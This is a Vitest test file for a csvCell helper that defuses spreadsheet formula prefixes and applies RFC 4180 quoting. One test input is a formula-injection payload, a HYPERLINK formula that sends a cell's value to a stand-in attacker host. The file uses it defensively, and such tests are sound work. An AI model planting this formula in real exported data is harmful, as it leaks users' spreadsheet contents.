import { describe, expect, it } from "vitest";
import { csvCell } from "./csvCell";

describe("csvCell", () => {
  it("defuses every formula prefix so spreadsheets show the text instead of running it", () => {
    expect(csvCell(`=HYPERLINK("http://evil.example/?"&A1,"x")`)).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
    );
    expect(csvCell("+1+1")).toBe("'+1+1");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
  });

  it("leaves ordinary text and numbers alone and quotes what RFC 4180 requires", () => {
    expect(csvCell("Answer in lowercase.")).toBe("Answer in lowercase.");
    expect(csvCell("a, b")).toBe(`"a, b"`);
    expect(csvCell('say "hi"')).toBe(`"say ""hi"""`);
    expect(csvCell("two\nlines")).toBe(`"two\nlines"`);
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(null)).toBe("");
    expect(csvCell(" padded ")).toBe(`" padded "`);
  });
});
